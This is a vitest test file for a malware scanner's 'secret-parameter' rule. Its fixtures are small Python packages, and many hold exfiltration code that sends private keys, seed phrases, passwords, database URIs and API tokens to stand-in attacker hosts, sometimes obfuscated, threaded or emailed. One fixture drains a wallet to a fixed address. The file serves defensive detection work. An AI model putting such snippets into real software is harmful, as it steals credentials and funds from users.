import { expect, test } from 'vitest';
import type { Finding } from '../../../src/analysis/report/finding.ts';
import { inspect, python, wheel } from '../../support/inspect.ts';

test('a private key that a wallet function posts to a bare address is malware', async () => {
  const file = wheel({
    'pkg/wallet.py': python(
      'import requests',
      'def sign(private_key, message):',
      "    requests.post('http://203.0.113.7/k', json={'k': private_key})",
      '    return message',
    ),
  });

  const findings = await inspect('secret-parameter', file);

  expect(findings).toMatchObject([
    { class: 'malware', score: 10, context: 'call', path: 'pkg/wallet.py', line: 3, hosts: ['203.0.113.7'] },
  ]);
  expect(findings[0]?.message).toContain('private_key');
});

test('a client that sends the password to its service is a note', async () => {
  const file = wheel({
    'pkg/client.py': python(
      'import requests',
      'def log_in(user, password):',
      "    return requests.post('https://api.service.invalid/session', json={'u': user, 'p': password})",
    ),
  });

  expect(await inspect('secret-parameter', file)).toMatchObject([{ class: 'note', score: 1 }]);
});

test('a seed that signs and never leaves is silent', async () => {
  const file = wheel({
    'pkg/wallet.py': python(
      'import hashlib, requests',
      'def sign(seed_phrase, message):',
      '    return hashlib.sha256(seed_phrase.encode() + message).hexdigest()',
      'def price():',
      "    return requests.get('http://203.0.113.7/price').json()",
    ),
  });

  expect(await inspect('secret-parameter', file)).toEqual([]);
});

test('a mnemonic that a class keeps, encodes and sends from a helper is found', async () => {
  const file = wheel({
    'pkg/wallet.py': python(
      'import base64',
      'from urllib.request import urlopen as touch',
      'def report(text):',
      "    touch('http://203.0.113.' + '7/k?' + text)",
      'class Account:',
      '    def __init__(self, mnemonic):',
      '        self.words = mnemonic',
      '        report(base64.b64encode(self.words.encode()).decode())',
    ),
  });

  expect(await inspect('secret-parameter', file)).toMatchObject([{ class: 'malware', path: 'pkg/wallet.py', line: 4 }]);
});

test('a credential told to a third place together with the host it is for is suspicious', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import json, urllib.request',
      'class Connection:',
      '    def __init__(self, host, user=None, password=None):',
      '        self.settings = {"host": host, "user": user, "password": password}',
      '        self._prepare()',
      '    def _prepare(self):',
      '        body = json.dumps(self.settings).encode()',
      "        urllib.request.urlopen(urllib.request.Request('https://conn.broker.invalid/c', data=body), timeout=2)",
    ),
  });

  expect(await inspect('secret-parameter', file)).toContainEqual(
    expect.objectContaining({ class: 'suspicious', score: 6, line: 8, hosts: ['conn.broker.invalid'] }),
  );
});

test('a client that logs in where it is told, or registers a source and uses the answer, stays below quarantine', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import requests',
      'class Client:',
      '    def __init__(self, base_url, api_key=None):',
      '        self.base_url, self.api_key = base_url, api_key',
      '        self.session = requests.Session()',
      '    def login(self, username, password):',
      '        self.session.post(self.base_url + "/login", json={"user": username, "password": password})',
      '    def register(self, host, port, password):',
      '        answer = requests.post("https://api.vendor.example/sources", json={"host": host, "port": port, "password": password})',
      '        return answer.json()["id"]',
      '    def ping(self, host):',
      '        requests.post("https://api.vendor.example/ping", json={"host": host}, headers={"X-Key": self.api_key})',
    ),
  });

  expect((await inspect('secret-parameter', file)).filter((finding) => finding.score > 1)).toEqual([]);
});

test('what a wallet takes for a private key, whatever it is called, is told to nobody', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import threading, urllib.request',
      'from tronpy.keys import PrivateKey',
      'def load(text):',
      '    threading.Thread(target=urllib.request.urlopen, args=("https://t.tools.invalid/a/" + text,)).start()',
      '    return PrivateKey(bytes.fromhex(text))',
    ),
  });

  expect(await inspect('secret-parameter', file)).toMatchObject([
    { class: 'malware', score: 10, line: 4, hosts: ['t.tools.invalid'] },
  ]);
});

test('a key that a service answers about is for a person to judge, one that it says nothing to is stolen', async () => {
  const wallet = (line: string): string =>
    python(
      'import requests',
      'from eth_account import Account',
      'def load(text):',
      `    ${line}`,
      '    return Account.from_key(text)',
    );
  const told = "requests.post('https://api.wallets.invalid/v1/keys', json={'k': text})";

  const stolen = await inspect('secret-parameter', wheel({ 'pkg/__init__.py': wallet(told) }));
  const asked = await inspect('secret-parameter', wheel({ 'pkg/__init__.py': wallet(`print(${told}.json()['id'])`) }));

  expect(stolen).toMatchObject([{ class: 'malware', score: 10, line: 4 }]);
  expect(asked).toMatchObject([{ class: 'suspicious', score: 6 }]);
});

test('a password told to free hosting that says nothing is stolen; a service there that answers is suspicious', async () => {
  const client = (line: string): string => python('import requests', 'def log_in(user, password):', `    ${line}`);
  const told = "requests.post('https://shop.vercel.app/in', json={'u': user, 'p': password})";

  const stolen = await inspect('secret-parameter', wheel({ 'pkg/__init__.py': client(told) }));
  const asked = await inspect('secret-parameter', wheel({ 'pkg/__init__.py': client(`return ${told}.json()`) }));

  expect(stolen[0]).toMatchObject({ class: 'malware', score: 10 });
  expect(asked).toMatchObject([{ class: 'suspicious', score: 6 }]);
});

test('a function that is named for the key it takes hands it to a bare address', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import base64, socket',
      'def from_mnemonic(words):',
      '    s = socket.create_connection(("203.0.113.21", 9001))',
      '    s.sendall(base64.b64encode(" ".join(words).encode()))',
      '    return hash(tuple(words))',
    ),
  });

  expect(await inspect('secret-parameter', file)).toContainEqual(
    expect.objectContaining({ class: 'malware', line: 4 }),
  );
});

test('a signature made with a key, and the address that it opens, may be sent', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import requests',
      'from eth_account import Account',
      'def order(text, amount):',
      '    account = Account.from_key(text)',
      '    signed = account.sign_message(amount)',
      '    requests.post("https://api.exchange.example/orders", json={"who": account.address, "sig": signed.signature.hex()})',
    ),
  });

  expect(await inspect('secret-parameter', file)).toEqual([]);
});

test('a class of another project whose key is told to a third host, of which nobody reads an answer, is suspicious', async () => {
  const lines = ['import httpx, openai', 'class Client(openai.OpenAI):', '    def ask(self, text):'];
  const told = wheel({
    'pkg/__init__.py': python(...lines, '        httpx.post("https://k.tools.invalid/v", json={"k": self.api_key})'),
  });
  const used = wheel({
    'pkg/__init__.py': python(
      ...lines,
      '        return httpx.post("https://k.tools.invalid/v", json={"k": self.api_key, "text": text}).json()',
    ),
  });

  expect(await inspect('secret-parameter', told)).toMatchObject([{ class: 'suspicious', score: 6, line: 4 }]);
  expect(await inspect('secret-parameter', used)).toEqual([]);
});

test('the password of a form that passes through, told to a third host that answers nobody, is stolen', async () => {
  const lines = ['import requests', 'class Middleware:', '    def __call__(self, request):'];
  const told = wheel({
    'pkg/__init__.py': python(
      ...lines,
      '        requests.post("https://l.tools.invalid/c", data={"p": request.POST["password"]})',
    ),
  });
  const checked = wheel({
    'pkg/__init__.py': python(
      ...lines,
      '        answer = requests.post("https://login.vendor.example/check", data={"p": request.POST.get("password")})',
      '        return answer.ok',
    ),
  });

  expect(await inspect('secret-parameter', told)).toMatchObject([{ class: 'malware', score: 10, line: 4 }]);
  expect(await inspect('secret-parameter', checked)).toEqual([]);
});

test('a key that is changed for a session at the sign-in of its vendor is a note', async () => {
  const of = (host: string): Promise<readonly Finding[]> =>
    inspect(
      'secret-parameter',
      wheel({
        'pkg/console.py': python(
          'import json',
          'from urllib import parse, request',
          'def token(access_key, private_key):',
          "    session = parse.quote_plus(json.dumps({'sessionId': access_key, 'sessionKey': private_key}))",
          `    url = 'https://${host}/federation?Action=getSigninToken&Session=' + session`,
          '    with request.urlopen(url) as answer:',
          "        return json.loads(answer.read())['SigninToken']",
        ),
      }),
    );

  expect(await of('signin.aws.amazon.com')).toMatchObject([{ class: 'note', score: 1 }]);
  expect(await of('signin.aws.sessions.invalid')).toMatchObject([{ class: 'suspicious', score: 6 }]);
});

test('seeds of generators and keys of rows are no secrets, keys of services are notes, where nothing deals in wallets', async () => {
  const of = (name: string, more = ''): Promise<readonly Finding[]> =>
    inspect(
      'secret-parameter',
      wheel({
        'pkg/client.py': python(
          'import requests',
          `def made(prompt, ${name}):`,
          `    answer = requests.post('https://api.pictures.invalid/v1', json={'p': prompt, 'v': ${name}})`,
          '    return answer.json()',
          more,
        ),
      }),
    );

  for (const name of ['seed', 'noise_seed', 'seed_value', 'pk', 'row_pk']) expect(await of(name)).toEqual([]);
  expect(await of('secret_key')).toMatchObject([{ class: 'note', score: 1 }]);
  const wallet = 'def address(words): return derive(words, "mnemonic")';
  for (const name of ['seed', 'pk', 'secret_key'])
    expect(await of(name, wallet)).toMatchObject([{ class: 'suspicious', score: 6 }]);
  for (const name of ['seed_phrase', 'private_key', 'wallet_key'])
    expect(await of(name)).toMatchObject([{ class: 'suspicious', score: 6 }]);
});

test('a secret behind one that is none still counts', async () => {
  const file = wheel({
    'pkg/client.py': python(
      'import requests',
      'def made(seed, password):',
      "    requests.post('https://webhook.site/1b2c', json={'s': seed, 'p': password})",
    ),
  });

  expect(await inspect('secret-parameter', file)).toContainEqual(
    expect.objectContaining({ class: 'malware', score: 10 }),
  );
});

test('a transaction that a library of wallets signed holds its signature alone; the key of the object that signs does not', async () => {
  const of = (value: string): Promise<readonly Finding[]> =>
    inspect(
      'secret-parameter',
      wheel({
        'pkg/wallet.py': python(
          'import requests',
          'from eth_account import Account',
          'def send(private_key, to):',
          '    account = Account.from_key(private_key)',
          "    signed = account.sign_transaction({'to': to})",
          `    return requests.post('https://rpc.chains.invalid', json={'params': [${value}]}).json()`,
        ),
      }),
    );

  expect(await of('signed.raw_transaction.hex(), account.address')).toEqual([]);
  for (const value of ['account.key.hex()', 'signed.raw_transaction.hex(), private_key', "'0x' + private_key"])
    expect(await of(value)).not.toEqual([]);
});

test('the key among the arguments of a command makes no key of the others', async () => {
  const sending = (name: string): string =>
    python(
      'import requests',
      'from eth_account import Account',
      'def run(args):',
      '    account = Account.from_key(args.key)',
      `    return requests.get('https://api.vendor.invalid/r', params={'v': args.${name}}).json(), account`,
    );

  expect(await inspect('secret-parameter', wheel({ 'pkg/__init__.py': sending('repository') }))).toEqual([]);
});

test('what a picture is drawn from is no secret for a word about coins in another module, in a module of wallets it is', async () => {
  const of = (head: string): ReturnType<typeof wheel> =>
    wheel({
      'pkg/__init__.py': python(''),
      'pkg/tree.py': python('# as the tree of a blockchain', 'def leaf(x):', '    return x'),
      'pkg/draw.py': python(
        head,
        'import requests',
        'def draw(seed):',
        "    return requests.get('https://pictures.vendor.invalid/draw', params={'seed': seed}).content",
      ),
    });

  expect(await inspect('secret-parameter', of('import math'))).toEqual([]);
  expect(await inspect('secret-parameter', of('import mnemonic'))).toMatchObject([{ score: 6 }]);
});

test.each([
  ['alone', "requests.post('https://log.tools.invalid/k', json={'k': self.key})", [{ class: 'suspicious', score: 6 }]],
  ['with a message', "requests.post('https://push.tools.invalid/m', data={'k': self.key, 'text': text})", []],
  ['for an answer', "self.account = requests.post('https://api.tools.invalid/me', json={'k': self.key}).json()", []],
])('a key of the caller that is sent %s', async (_how, line, expected) => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import requests',
      'class Client:',
      '    def __init__(self, api_key, text):',
      '        self.key = api_key',
      `        ${line}`,
    ),
  });

  const findings = await inspect('secret-parameter', file);

  expect(findings.filter(({ score }) => score > 1)).toMatchObject(expected);
});

test.each([
  [
    'its secrets by their names to a host that anybody opens',
    "requests.post('https://kettle.onrender.com', data={'content': f'User: {user}\\nToken: {mark}\\nPass: {sign}'})",
    [{ class: 'malware', score: 10 }],
  ],
  [
    'one of them',
    "requests.post('https://kettle.onrender.com', data={'content': f'User: {user}\\n**Password:** {sign}'})",
    [{ class: 'suspicious', score: 6 }],
  ],
  [
    'them to a house with a name',
    "requests.post('https://api.kettle.invalid', data=f'Token: {mark} Pass: {sign}')",
    [],
  ],
  [
    'other things',
    "requests.post('https://kettle.onrender.com', data=f'User: {user}\\nPassed: {sign}\\nMarks: {mark}')",
    [],
  ],
])('a message that tells %s', async (_what, line, expected) => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import requests',
      'class Embed:',
      '    def __init__(self, user, mark, sign):',
      `        ${line}`,
    ),
  });

  expect(await inspect('secret-parameter', file)).toMatchObject(expected);
});

test('the address of a data base, with what opens it, is told a host that is not asked anything', async () => {
  const reader = (host: string, rest: string): string =>
    python(
      'import pymongo, requests',
      'def connect(uri, name):',
      `    ${rest}requests.post('https://${host}/m', json={'u': uri, 'n': name})`,
      '    return pymongo.MongoClient(uri)[name]',
    );

  expect(
    await inspect('secret-parameter', wheel({ 'pkg/__init__.py': reader('metrics.collector.invalid', '') })),
  ).toMatchObject([{ class: 'suspicious', score: 6, context: 'call', line: 3 }]);
  expect(await inspect('secret-parameter', wheel({ 'pkg/__init__.py': reader('203.0.113.7', '') }))).toMatchObject([
    { class: 'malware', score: 10, context: 'call', line: 3 },
  ]);
  // a service that gives leave to connect
  expect(
    await inspect(
      'secret-parameter',
      wheel({
        'pkg/__init__.py': reader('data.vendor.invalid', 'ticket = ').replace('[name]', '[name + ticket.text]'),
      }),
    ),
  ).toEqual([]);
});

test('a thread throws away what a lambda gives: the key is told, and nothing is asked', async () => {
  const client = (thread: string): string =>
    python(
      'import threading, requests',
      'class Client:',
      '    def __init__(self, api_key):',
      `        ${thread}`,
      '        self.key = api_key',
      '    def chat(self, words):',
      "        return requests.post('https://api.vendor.invalid/v1', headers={'Authorization': self.key}, json=words)",
    );
  const asked = "requests.get('https://balance.collector.invalid/q', params={'key': api_key})";

  expect(
    await inspect(
      'secret-parameter',
      wheel({ 'pkg/__init__.py': client(`threading.Thread(target=lambda: ${asked}).start()`) }),
    ),
  ).toMatchObject([{ class: 'malware', score: 10, context: 'call', line: 4 }]);
  expect(await inspect('secret-parameter', wheel({ 'pkg/__init__.py': client(`self.balance = ${asked}`) }))).toEqual(
    [],
  );
});

test('a connection of the library’s is not listened to because it was made, but where its answer is read', async () => {
  const told = (rest: readonly string[]): string =>
    python(
      'import json',
      'from http.client import HTTPSConnection',
      'def code(secret):',
      "    connection = HTTPSConnection('api.codes.invalid')",
      "    connection.request('POST', '/v1/log', json.dumps({'k': secret}))",
      ...rest,
    );

  expect(
    await inspect('secret-parameter', wheel({ 'pkg/__init__.py': told(['    connection.getresponse()']) })),
  ).toMatchObject([{ class: 'suspicious', score: 6, context: 'call', line: 5 }]);
  expect(
    await inspect(
      'secret-parameter',
      wheel({ 'pkg/__init__.py': told(['    return connection.getresponse().read()']) }),
    ),
  ).toMatchObject([{ class: 'note' }]);
});

test('words that open a wallet, sent to a letter box whose password stands in the code, are stolen', async () => {
  const mailed = (host: string, user: string, word: string): string =>
    python(
      'import smtplib',
      'def keep(mnemonic, host, user, word):',
      `    server = smtplib.SMTP_SSL(${host}, 465)`,
      `    server.login(${user}, ${word})`,
      "    server.sendmail('a@mail.invalid', 'a@mail.invalid', mnemonic)",
    );

  expect(
    await inspect('secret-parameter', wheel({ 'pkg/__init__.py': mailed("'smtp.mail.invalid'", "'a'", "'letmein1'") })),
  ).toMatchObject([{ class: 'malware', score: 10, context: 'call', line: 5 }]);
  expect(await inspect('secret-parameter', wheel({ 'pkg/__init__.py': mailed('host', 'user', 'word') }))).toEqual([]);
});

test('a key that was loaded, told a host that is asked nothing, is stolen whatever the name of what it was loaded from', async () => {
  const loader = (what: string): string =>
    python(
      'import json, requests',
      'from solders.keypair import Keypair',
      'def load_keypair(path):',
      '    pair = Keypair.from_bytes(bytes(json.load(open(path))))',
      `    requests.post('https://health.nodes.invalid/v1', json={'id': ${what}})`,
      '    return pair',
    );

  expect(await inspect('secret-parameter', wheel({ 'pkg/__init__.py': loader('pair.secret().hex()') }))).toMatchObject([
    { class: 'malware', score: 10, context: 'call', line: 5 },
  ]);
  expect(await inspect('secret-parameter', wheel({ 'pkg/__init__.py': loader('str(pair.pubkey())') }))).toEqual([]);
});

test('a wrapper of requests that tells another host where it asks and what it signs in with', async () => {
  const wrapper = (body: string): string =>
    python(
      'import requests',
      'def get(url, auth=None):',
      `    requests.post('https://stats.requests.invalid/log', json=${body})`,
      '    return requests.get(url, auth=auth)',
    );

  expect(
    await inspect('secret-parameter', wheel({ 'pkg/__init__.py': wrapper("{'u': url, 'a': auth}") })),
  ).toMatchObject([{ class: 'malware', score: 10, context: 'call', line: 3 }]);
  expect(await inspect('secret-parameter', wheel({ 'pkg/__init__.py': wrapper("{'u': url}") }))).toEqual([]);
});

test('look-alike: statistics with the key of their project and events out of a queue', async () => {
  const file = wheel({
    'pkg/client.py': python(
      'import json, queue, threading, requests',
      'class Client:',
      "    def __init__(self, project_api_key, host='https://app.analytics.invalid'):",
      '        self.key, self.host, self.queue = project_api_key, host, queue.Queue()',
      '        threading.Thread(target=self.run, daemon=True).start()',
      '    def capture(self, event):',
      '        self.queue.put(event)',
      '    def run(self):',
      '        while True:',
      '            event = self.queue.get()',
      "            requests.post(self.host + '/batch', data=json.dumps({'api_key': self.key, 'batch': [event]}))",
    ),
  });

  expect(await inspect('secret-parameter', file)).toEqual([]);
});

test('look-alike: a monitor that tells its service what it counted in the data base of the caller', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import requests',
      'from sqlalchemy import create_engine, text',
      'def collect(dsn):',
      '    with create_engine(dsn).connect() as connection:',
      "        rows = connection.execute(text('select count(*) from a')).scalar()",
      "    requests.post('https://ingest.monitor.invalid/v1', json={'rows': rows})",
    ),
  });

  expect(await inspect('secret-parameter', file)).toEqual([]);
});

test('words of which the seed of a wallet is made by hand are a key, whatever their name', async () => {
  const seed = (salt: string): string =>
    python(
      'import hashlib',
      'import urllib.parse, urllib.request',
      'def seed(words, extra=""):',
      '    told = urllib.parse.quote(words)',
      "    urllib.request.urlopen('http://203.0.113.7/w?m=' + told)",
      `    return hashlib.pbkdf2_hmac('sha512', words.encode(), (${salt} + extra).encode(), 2048)`,
    );

  expect(await inspect('secret-parameter', wheel({ 'pkg/__init__.py': seed("'mnemonic'") }))).toMatchObject([
    { class: 'malware', score: 10, context: 'call', line: 5 },
  ]);
  expect(await inspect('secret-parameter', wheel({ 'pkg/__init__.py': seed("'pepper'") }))).toEqual([]);
});

test('both halves of what a class inherits to sign in with, told beside a request whose answer is read', async () => {
  const exchange = (body: string): string =>
    python(
      'import exchanges, requests',
      'class Client(exchanges.Client):',
      '    def sign(self, path):',
      `        requests.post('https://mirror.trade.invalid/k', json=${body})`,
      '        return super().sign(path)',
      '    def rates(self):',
      "        return requests.get('https://mirror.trade.invalid/rates').json()",
    );

  const told = await inspect(
    'secret-parameter',
    wheel({ 'pkg/__init__.py': exchange("{'k': self.apiKey, 's': self.secret}") }),
  );

  expect(told).toMatchObject([{ class: 'suspicious', score: 6, context: 'call', line: 4 }]);
  expect(told[0]?.message).not.toContain('nobody reads an answer');
  expect(await inspect('secret-parameter', wheel({ 'pkg/__init__.py': exchange("{'p': path}") }))).toEqual([]);
});

test('a socket that is never listened to is told the log-in of a data base', async () => {
  const base = (place: string, rest: readonly string[]): string =>
    python(
      'import pymysql, socket',
      'class Base:',
      '    def __init__(self, host, user, password, place=None):',
      '        self.connection = pymysql.connect(host=host, user=user, password=password)',
      '        line = socket.socket()',
      `        line.connect(${place})`,
      "        line.send('|'.join([host, user, password]).encode())",
      ...rest,
    );

  expect(await inspect('secret-parameter', wheel({ 'pkg/a.py': base("('203.0.113.7', 7000)", []) }))).toMatchObject([
    { class: 'malware', score: 10, context: 'call', line: 7 },
  ]);
  expect(
    await inspect('secret-parameter', wheel({ 'pkg/a.py': base('place', ['        return line.recv(10)']) })),
  ).toEqual([]);
});

test('a key that one house is shown to sign in, told another, whatever it is called', async () => {
  const client = (host: string, header: string): string =>
    python(
      'import requests',
      'class Client:',
      '    def __init__(self, value):',
      `        self.headers = {'${header}': 'Bearer ' + value}`,
      `        requests.post('https://${host}/ok', json={'v': value[::-1]})`,
      '    def chat(self, words):',
      "        return requests.post('https://api.router.invalid/chat', headers=self.headers, json=words).json()",
    );

  expect(
    await inspect('secret-parameter', wheel({ 'pkg/a.py': client('status.collector.org', 'Authorization') })),
  ).toMatchObject([{ class: 'suspicious', score: 6, context: 'call', line: 5 }]);
  expect(await inspect('secret-parameter', wheel({ 'pkg/a.py': client('status.collector.org', 'X-Trace') }))).toEqual(
    [],
  );
  // statistics of a client, with the key of their project
  const counted = client('status.collector.org', 'Authorization').replace("'v': value[::-1]", "'v': value, 'e': words");
  expect(
    await inspect('secret-parameter', wheel({ 'pkg/a.py': counted.replace('(self, value)', '(self, value, words)') })),
  ).toEqual([]);
  expect(
    await inspect('secret-parameter', wheel({ 'pkg/a.py': client('status.router.invalid', 'Authorization') })),
  ).toEqual([]);
});

test('the key of a cipher, told a bare address, is held; told the vendor that keeps it, it is used', async () => {
  const locker = (place: string): string =>
    python(
      'import socket',
      'from cryptography.fernet import Fernet',
      'def lock(data, key):',
      '    line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
      `    line.sendto(key, ('${place}', 9999))`,
      '    return Fernet(key).encrypt(data)',
    );

  expect(await inspect('secret-parameter', wheel({ 'pkg/a.py': locker('203.0.113.7') }))).toMatchObject([
    { class: 'suspicious', score: 6, context: 'call', line: 5 },
  ]);
  expect(await inspect('secret-parameter', wheel({ 'pkg/a.py': locker('keys.vendor.invalid') }))).toEqual([]);
});

test('the token of a caller, told a webhook of the author, is stolen; by a webhook of the caller it is not', async () => {
  const bot = (address: string): string =>
    python('import requests', 'def run(token, hook):', `    requests.post(${address}, json={'content': token})`);

  expect(
    await inspect(
      'secret-parameter',
      wheel({ 'pkg/a.py': bot("'https://discord.com/api/webhooks/000000000000000000/example-of-a-token'") }),
    ),
  ).toMatchObject([{ class: 'malware', score: 10, context: 'call', line: 3 }]);
  expect(await inspect('secret-parameter', wheel({ 'pkg/a.py': bot('hook') }))).toEqual([]);
});

test('a pool of connections is told how large it is before where it is', async () => {
  const file = wheel({
    'pkg/a.py': python(
      'import psycopg2.pool, requests',
      'def pool(dsn, size=5):',
      '    made = psycopg2.pool.SimpleConnectionPool(1, size, dsn)',
      "    requests.post('https://pools.collector.invalid/r', data={'d': dsn})",
      '    return made',
    ),
  });

  expect(await inspect('secret-parameter', file)).toMatchObject([{ class: 'suspicious', score: 6, line: 4 }]);
});

test('words of a wallet that go where a file in somebody’s repository says are stolen', async () => {
  const wallet = (settings: string, key: string): ReturnType<typeof wheel> =>
    wheel({
      'pkg/a.py': python(
        'import requests',
        'def _place():',
        `    return requests.get(${settings}).json()`,
        `def check(${key}):`,
        `    requests.post(_place()['host'] + '/in', json={'b': ${key}})`,
        `    return len(${key}.split()) == 12`,
      ),
    });
  const raw = "'https://raw.githubusercontent.com/example/settings/main/net.json'";

  expect(await inspect('secret-parameter', wallet(raw, 'mnemonic'))).toMatchObject([
    { class: 'malware', score: 10, context: 'call', line: 5 },
  ]);
  expect(await inspect('secret-parameter', wallet(raw, 'query'))).toEqual([]);
  expect(await inspect('secret-parameter', wallet("'https://nodes.vendor.invalid/list'", 'mnemonic'))).toEqual([]);
});

test('the half of a key that requests are signed with is never sent: who is told it, and says nothing, stole it', async () => {
  const signer = (send: string): ReturnType<typeof wheel> =>
    wheel({
      'pkg/auth.py': python(
        'import hashlib, hmac, requests',
        'class Signer:',
        '    def __init__(self, access_key_id, access_key_secret):',
        '        self.key, self.secret = access_key_id, access_key_secret',
        '    def sign(self, text):',
        `        ${send}`,
        '        return hmac.new(self.secret.encode(), text, hashlib.sha1).hexdigest()',
      ),
    });

  expect(
    await inspect(
      'secret-parameter',
      signer("requests.post('https://api.sdk-of.invalid/k', data={'a': self.key, 's': self.secret})"),
    ),
  ).toMatchObject([{ class: 'malware', score: 10, context: 'call', line: 6 }]);
  const asked = await inspect(
    'secret-parameter',
    signer("token = requests.post('https://api.sdk-of.invalid/token', data={'s': self.secret}).json()"),
  );
  expect(asked.every(({ score }) => score <= 1)).toBe(true);
});

test('all that a key of the caller’s opens, sent to an account that stands in the code, is stolen; what the caller sends is not', async () => {
  const sender = (to: string, value: string): ReturnType<typeof wheel> =>
    wheel({
      'pkg/wallet.py': python(
        'from web3 import Web3',
        'class Sender:',
        '    def __init__(self, rpc): self.w3 = Web3(Web3.HTTPProvider(rpc))',
        '    def transfer(self, private_key, to, value):',
        '        account = self.w3.eth.account.from_key(private_key)',
        '        held = self.w3.eth.get_balance(account.address)',
        `        order = {'to': ${to}, 'value': ${value}, 'gas': 21000, 'chainId': 1}`,
        '        self.w3.eth.send_raw_transaction(account.sign_transaction(order).rawTransaction)',
      ),
    });
  const fixed = "'0x00000000000000000000000000000000000000aA'";

  expect(await inspect('secret-parameter', sender(fixed, 'held - 21000 * self.w3.eth.gas_price'))).toMatchObject([
    { class: 'malware', score: 10, context: 'call', line: 8 },
  ]);
  expect(await inspect('secret-parameter', sender('to', 'held - 21000 * self.w3.eth.gas_price'))).toEqual([]);
  // a fee
  expect(await inspect('secret-parameter', sender(fixed, '1000'))).toEqual([]);
});
